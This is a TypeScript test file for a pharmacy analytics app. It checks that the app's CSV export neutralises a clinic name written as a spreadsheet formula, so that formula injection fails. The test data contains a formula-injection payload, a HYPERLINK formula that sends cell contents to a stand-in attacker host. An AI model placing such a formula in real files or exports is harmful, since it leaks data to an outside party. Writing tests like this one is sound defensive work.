import { analysisCsvPath } from '@pharmalytics/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HttpClient } from '../testing/http-client.ts';
import { replicaCaughtUp } from '../testing/replica.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';
import { uploadAs } from '../testing/upload.ts';

/**
 * A name from an uploaded file reaches the CSV exports: one that a spreadsheet would run as a
 * formula must come out as text, while the figures stay numbers.
 */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")';
/** The name as a field of the uploaded CSV: quoted, inner quotes doubled. */
const uploadedName = `"${FORMULA_NAME.replaceAll('"', '""')}"`;

const sheet = (reception: string, points: number) =>
  `4041100018,2026-04-06,09:15,${reception},1,P-A,2,1950-03,,,社保,外来,新規,1,4011000011,` +
  `${uploadedName},,内科,,,FEE,120000110,調剤基本料,調剤基本料,${points},1,,,`;

let t: TestApp;
let member: HttpClient;
beforeAll(async () => {
  t = await startTestApp();
  const reply = await uploadAs(t, '1001', [sheet('R1', 45), sheet('R2', 32.5)]);
  expect(reply.body).toMatchObject({ status: 'loaded', prescriptionsLoaded: 2, rowsRefused: 0 });
  await replicaCaughtUp(t.app, t.db);
  member = t.client();
  await member.login('admin@example.com');
});
afterAll(() => t.close());

describe('CSV export of a name that looks like a formula', () => {
  it('writes the name as quoted text after a single quote, and the figures as bare numbers', async () => {
    const query = new URLSearchParams({
      from: '2026-04-01',
      to: '2026-04-30',
      period_code: '2',
      store_codes: '1001',
    });
    const reply = await member.get(`${analysisCsvPath('clinic', 'dispensing_sales')}?${query}`);
    expect(reply.status).toBe(200);
    const lines = reply.bytes
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[0]).toBe('"No.","医療機関","2026/04","合計"');
    // 450 + 325 yen of 調剤基本料.
    expect(lines[1]).toBe(`1,"'${FORMULA_NAME.replaceAll('"', '""')}",775,775`);
  });
});
